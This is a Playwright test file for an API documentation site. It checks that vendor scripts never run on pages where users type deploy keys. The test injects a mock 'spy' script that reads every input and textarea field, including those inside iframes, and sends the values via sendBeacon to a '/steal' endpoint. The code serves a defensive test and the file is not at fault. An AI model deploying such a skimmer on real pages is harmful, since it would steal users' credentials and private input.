import type { Page } from '@playwright/test';
import { expectActive } from '../../browser/support/site';
import { expect, takeViolations } from '../../browser/support/test';
import { openActive } from './support/banner';
import { requests, requestsTo, test } from './support/hosts';

const operation = '/public-deployment-api/query-post';
const deployment = 'happy-otter-123.convex.cloud';
const key = 'dev:happy-otter-123|SECRET-DEPLOY-KEY';

/** A vendor's script that sends every value in every field, of this document and of those it can open or frame. */
const spy = `(() => {
  window.isSpied = true;
  const send = (values) => navigator.sendBeacon('https://www.google-analytics.com/steal', values);
  const readAll = () => {
    const frames = [...document.querySelectorAll('iframe')].map((frame) => frame.contentDocument);
    for (const root of [document, ...frames]) {
      const values = [...(root?.querySelectorAll('input, textarea') ?? [])].map(({ value }) => value);
      if (values.some(Boolean)) send(values.join());
    }
  };
  setInterval(readAll, 100);
  addEventListener('input', readAll, true);
  const frame = document.createElement('iframe');
  frame.src = '${operation}';
  document.documentElement.append(frame);
})()`;

test.beforeEach(async ({ context }) => {
  for (const source of ['https://widget.kapa.ai/**', 'https://www.googletagmanager.com/**']) {
    await context.route(source, async (route, request) => {
      const { hostname: host } = new URL(request.url());
      const [url, method] = [request.url(), request.method()];
      requests.push({ host, url, method, headers: request.headers(), request });
      await route.fulfill({ contentType: 'text/javascript', body: spy });
    });
  }
});

const stolen = () =>
  requests
    .filter(({ url }) => url.endsWith('/steal'))
    .map(({ request }) => request.postData() ?? '')
    .join('\n');

const isSpied = (page: Page) =>
  page.evaluate(() => ['isSpied', 'Kapa', 'dataLayer'].some((name) => name in window));

/** What vendors were asked for while the page was an operation's. */
const toVendors = () =>
  (['posthog', 'gtag', 'widget'] as const).flatMap((service) => requestsTo(service));

async function enterKey(page: Page): Promise<void> {
  await page.getByRole('button', { name: /^Try it/ }).click();
  await expectActive(page);
  const form = page.getByRole('form', { name: 'Request' });
  await form.getByLabel('Deployment URL').fill(`https://${deployment}`);
  await form.getByLabel('Authorization').selectOption({ label: 'Deploy Key' });
  await form.getByLabel('Deploy Key').fill(key);
  await form.getByLabel('Body').fill('{"path":"tasks:list","args":{}}');
  await form.getByRole('button', { name: 'Send request' }).click();
  await expect(page.getByRole('region', { name: 'Result' })).toContainText('200');
}

test('a spying vendor reads the fields of a guide, never of an operation', async ({ page }) => {
  await page.clock.install();
  await openActive(page, '/http-api');
  await page.getByRole('button', { name: 'Ask AI' }).hover();
  await expect.poll(() => requestsTo('widget').length).toBe(1);
  await expect.poll(() => isSpied(page)).toBe(true);
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox', { name: 'Search' }).fill('seen on the guide');
  await expect.poll(stolen).toContain('seen on the guide');
  await page.keyboard.press('Escape');
  // Refused by the frame's own policy.
  expect(takeViolations(page.context())).not.toEqual([]);

  await page.getByRole('main').locator(`a[href="${operation}"]`).first().click();
  await expect(page).toHaveURL(operation);
  await expectActive(page);
  requests.length = 0;
  await enterKey(page);
  // Past the moment when guides load the widget without being asked for.
  await page.clock.runFor(7000);
  expect(await isSpied(page)).toBe(false);
  expect(toVendors()).toEqual([]);

  await page.getByRole('main').locator('a[href^="/public-deployment-api/"]').last().click();
  await expect(page).not.toHaveURL(operation);
  expect(await isSpied(page), 'from one operation to another').toBe(false);

  await page.getByRole('navigation').first().getByRole('link').first().click();
  await expect(page).toHaveURL('/');
  await expectActive(page);
  await expect.poll(() => isSpied(page)).toBe(true);
  await page.goBack();
  await expect(page).toHaveURL(/\/public-deployment-api\//);
  await expectActive(page);
  await page.clock.runFor(1000); // Long enough for a vendor that came along to run.
  expect(await isSpied(page)).toBe(false);
  takeViolations(page.context());
  const withKey = requests.filter(({ url, headers, request }) =>
    JSON.stringify([url, headers, request.postData()]).includes('SECRET'),
  );
  expect(withKey.map(({ host }) => host)).toEqual([deployment]);
});

test('an operation page that is opened directly runs no vendor, no widget', async ({ page }) => {
  await page.clock.install();
  await openActive(page, operation);
  await page.getByRole('button', { name: 'Ask AI' }).click();
  await expect(page.getByRole('dialog', { name: 'Ask AI' })).toBeVisible();
  // Past the moment when guides load the widget without being asked for.
  await page.clock.runFor(7000);
  expect(await isSpied(page)).toBe(false);
  expect(toVendors()).toEqual([]);
  // The site's own events aren't code of a vendor.
  expect(requestsTo('dashboard').length).toBeGreaterThan(0);
});
